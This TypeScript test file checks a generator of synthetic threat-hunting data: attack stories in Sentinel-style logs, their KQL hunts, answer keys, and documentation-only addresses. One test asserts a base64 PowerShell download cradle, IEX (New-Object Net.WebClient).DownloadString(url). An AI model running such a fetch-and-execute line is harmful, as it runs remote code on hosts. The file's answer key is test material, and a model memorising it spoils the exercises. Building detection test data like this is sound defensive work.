/**
 * The attack stories of the sample data: every story is found by its own hunt
 * (through the KQL engine, now() = the window's end) with the answer key's
 * entities, none of the hunts finds anything in the traffic without stories,
 * the stories are deterministic and they fit a 2,000-row demo whose file
 * already has every standard table.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { checksum } from './sample-helpers.ts';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import {
  generateSample, sampleAnswerKey, loadSentinelSchemas, KqlDatabase, WorkspaceStore, HOSTS, USERS, SAMPLE_TABLES, STORY_IDS,
  type AnswerKey, type SampleResult, type StoryAnswer,
} from '../src/index.ts';

const ROWS = 2000;
const SEED = 11;
const END = new Date('2025-06-15T12:00:00Z');
const dir = mkdtempSync(join(tmpdir(), 'hb-stories-'));
/** the demo workspace's file, made the server's way: every standard table at birth, then the generator (layout in DESIGN.md) */
const dbOn = join(dir, 'data', 'workspaces', 'demo', 'data.duckdb');
const dbOff = join(dir, 'off.duckdb');
let on: SampleResult;
let off: SampleResult;
let kOn: KqlDatabase;
let kOff: KqlDatabase;


/** The rows of a story's hunt as objects by column name. */
async function hunt(k: KqlDatabase, s: StoryAnswer): Promise<Record<string, unknown>[]> {
  const r = await k.query(s.query, { now: END });
  return r.rows.map((row) => Object.fromEntries(r.columns.map((c, i) => [c.name, row[i]])));
}

function matches(row: Record<string, unknown>, want: Record<string, string | number>): boolean {
  return Object.entries(want).every(([c, v]) => {
    const x = row[c];
    return Array.isArray(x) ? x.includes(v) : x === v;
  });
}

before(async () => {
  const store = await WorkspaceStore.open(join(dir, 'data'));
  try {
    await store.create({
      name: 'demo', standardTables: true,
      populate: async (db) => { on = await generateSample({ db, rows: ROWS, seed: SEED, end: END }); },
    });
  } finally {
    await store.close();
  }
  off = await generateSample({ db: dbOff, rows: ROWS, seed: SEED, end: END, stories: false });
  kOn = await KqlDatabase.open(dbOn, { readOnly: true });
  kOff = await KqlDatabase.open(dbOff, { readOnly: true });
});

after(() => {
  kOn?.close();
  kOff?.close();
  rmSync(dir, { recursive: true, force: true });
});

test('the answer key: every story, in order, inside the last two days, JSON as returned by sampleAnswerKey', () => {
  const key = on.answers;
  assert.deepEqual(key.stories.map((s) => s.id), [...STORY_IDS]);
  assert.deepEqual(JSON.parse(JSON.stringify(sampleAnswerKey({ seed: SEED, end: END }))), JSON.parse(JSON.stringify(key)));
  assert.equal(key.seed, SEED);
  assert.equal(key.end, END.toISOString());
  const from = new Date(END.getTime() - 2 * 86400_000).toISOString();
  for (const s of key.stories) {
    assert.ok(s.title && s.description && s.query && s.expect.length > 0 && s.entities.length > 0, s.id);
    for (const t of s.tables) assert.ok(SAMPLE_TABLES.includes(t), `${s.id}: ${t} is a generated table`);
    assert.match(s.start, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{7}Z$/);
    assert.ok(s.start >= from && s.start <= s.end && s.end < END.toISOString(), `${s.id}: ${s.start} .. ${s.end} inside the last two days`);
  }
  assert.deepEqual(off.answers.stories, []);
});

test('the stories use the org model and documentation addresses only', () => {
  const hosts = new Set(HOSTS.flatMap((h) => [h.name, h.fqdn, h.fqdn.toLowerCase(), h.ip]));
  const users = new Set(USERS.flatMap((u) => [u.upn, `LARKSPUR\\${u.sam}`, `LARKSPUR\\adm-${u.sam}`]));
  const documentation = /^(203\.0\.113|198\.51\.100|192\.0\.2)\.\d+$/;
  for (const s of on.answers.stories) {
    for (const e of s.entities) {
      if (e.type === 'host') assert.ok(hosts.has(e.value), `${s.id}: host ${e.value} is in the org`);
      if (e.type === 'ip') assert.ok(documentation.test(e.value) || hosts.has(e.value), `${s.id}: ${e.value} is a documentation or org address`);
      if (e.type === 'domain') assert.match(e.value, /\.(example|test|invalid)$/);
      if (e.type === 'account' && e.value.startsWith('LARKSPUR\\') && !e.value.endsWith('svc_sql')) assert.ok(users.has(e.value), `${s.id}: ${e.value} is in the org`);
      if (e.type === 'account' && e.value.includes('@')) assert.ok(users.has(e.value), `${s.id}: ${e.value} is in the org`);
    }
  }
  // the cradle is UTF-16LE base64 of an IEX DownloadString line, as powershell.exe -EncodedCommand expects
  const cradle = on.answers.stories.find((s) => s.id === 'encoded-powershell')!;
  const cmd = cradle.entities.find((e) => e.type === 'process')!.value;
  const b64 = /-Enc ([A-Za-z0-9+/=]+)$/.exec(cmd)![1]!;
  const url = cradle.entities.find((e) => e.type === 'url')!.value;
  assert.equal(Buffer.from(b64, 'base64').toString('utf16le'), `IEX (New-Object Net.WebClient).DownloadString('${url}')`);
});

test('every story is found by its own hunt, with the answer key entities', async () => {
  for (const s of on.answers.stories) {
    const rows = await hunt(kOn, s);
    assert.ok(rows.length > 0, `${s.id}: the hunt finds nothing`);
    for (const want of s.expect) {
      assert.ok(rows.some((r) => matches(r, want)), `${s.id}: no row with ${JSON.stringify(want)} in ${JSON.stringify(rows).slice(0, 500)}`);
    }
  }
});

test('without the stories every hunt finds nothing (the hunts are not trivially true)', async () => {
  for (const s of sampleAnswerKey({ seed: SEED, end: END }).stories) {
    const rows = await hunt(kOff, s);
    assert.deepEqual(rows, [], `${s.id} found rows in the normal traffic`);
  }
});

test('threat intelligence: a realistic feed, and its join to the firewall log finds the known-bad address', async () => {
  const ti = on.answers.stories.find((s) => s.id === 'threat-intel-match')!;
  const c2 = ti.entities.find((e) => e.role === 'known-bad address')!.value;
  const joined = await kOn.query(`ThreatIntelligenceIndicator
    | where isnotempty(NetworkIP)
    | join kind=inner (CommonSecurityLog | summarize Hits = count() by DestinationIP) on $left.NetworkIP == $right.DestinationIP
    | distinct NetworkIP, ThreatType`, { now: END });
  assert.ok(joined.rows.some((r) => r[0] === c2 && r[1] === 'C2'), `C2 ${c2} joined: ${JSON.stringify(joined.rows)}`);
  const kinds = await kOn.query(`ThreatIntelligenceIndicator
    | summarize Ips = countif(isnotempty(NetworkIP)), Domains = countif(isnotempty(DomainName)), Urls = countif(isnotempty(Url)),
        Hashes = countif(FileHashType == "SHA256" and strlen(FileHashValue) == 64), Inactive = countif(not(Active)),
        BadExpiry = countif(Active and ExpirationDateTime <= TimeGenerated), BadScore = countif(ConfidenceScore < 0 or ConfidenceScore > 100),
        Types = dcount(ThreatType), Providers = dcount(IndicatorProvider)`, { now: END });
  const [ips, domains, urls, hashes, , badExpiry, badScore, types, providers] = kinds.rows[0] as number[];
  assert.ok(ips! > 0 && domains! > 0 && urls! > 0 && hashes! > 0, JSON.stringify(kinds.rows[0]));
  assert.equal(badExpiry, 0);
  assert.equal(badScore, 0);
  assert.ok(types! >= 4 && providers! >= 3);
});

test('a file with every standard table: the generated ones are filled, the others kept; the total is the rows asked for', async () => {
  const inst = await DuckDBInstance.create(dbOn, { access_mode: 'READ_ONLY' });
  const con = await inst.connect();
  const tables = (await con.runAndReadAll(`SELECT table_name FROM information_schema.tables WHERE table_schema = 'main'`)).getRowsJson().map((r) => String(r[0]));
  const [[audit]] = (await con.runAndReadAll(`SELECT count(*)::BIGINT FROM AuditLogs`)).getRowsJson() as unknown[][];
  const [[beacons]] = (await con.runAndReadAll(`SELECT count(*)::BIGINT FROM CommonSecurityLog WHERE DestinationPort = 443 AND DeviceAction = 'allow' AND DestinationIP LIKE '198.51.100.2%'`)).getRowsJson() as unknown[][];
  con.closeSync();
  inst.closeSync();
  assert.equal(tables.length, loadSentinelSchemas().length);
  assert.ok(tables.length > SAMPLE_TABLES.length);
  assert.equal(Number(audit), 0, 'AuditLogs kept, empty');
  assert.ok(Number(beacons) >= 180);
  assert.equal(on.tables.reduce((a, t) => a + t.rows, 0), ROWS);
  for (const t of SAMPLE_TABLES) assert.ok(on.tables.find((x) => x.name === t)!.rows > 0, `${t} filled`);
});

test('deterministic: the same seed gives the same answer key and rows; another seed other stories', async () => {
  const again = join(dir, 'again.duckdb');
  const r = await generateSample({ db: again, rows: ROWS, seed: SEED, end: END });
  assert.deepEqual(r.answers, on.answers);
  assert.deepEqual(await checksum(again), await checksum(dbOn));
  const other: AnswerKey = sampleAnswerKey({ seed: SEED + 1, end: END });
  assert.notDeepEqual(other.stories.map((s) => [s.start, s.entities]), on.answers.stories.map((s) => [s.start, s.entities]));
});

test('subsets and short windows: stories only for generated tables, never in under a day', async () => {
  const db = join(dir, 'subset.duckdb');
  const plain = await generateSample({ db, rows: 300, tables: ['SigninLogs'], end: END });
  assert.deepEqual(plain.answers.stories, [], 'a subset has no stories unless asked');
  const r = await generateSample({ db, rows: 300, tables: ['SigninLogs'], end: END, seed: SEED, stories: true });
  assert.deepEqual(r.answers.stories.map((s) => s.id), ['password-spray', 'impossible-travel']);
  assert.equal(r.tables[0]!.rows, 300);
  const k = await KqlDatabase.open(db, { readOnly: true });
  try {
    for (const s of r.answers.stories) assert.ok((await hunt(k, s)).length > 0, s.id);
  } finally {
    k.close();
  }
  const short = await generateSample({ db, rows: 100, tables: ['Syslog'], end: END, days: 0.5 });
  assert.deepEqual(short.answers.stories, []);
  await assert.rejects(generateSample({ db, rows: 100, end: END, days: 0.5, stories: true }), /at least 1 day/);
  assert.throws(() => sampleAnswerKey({ days: 0.5 }), /at least 1 day/);
});
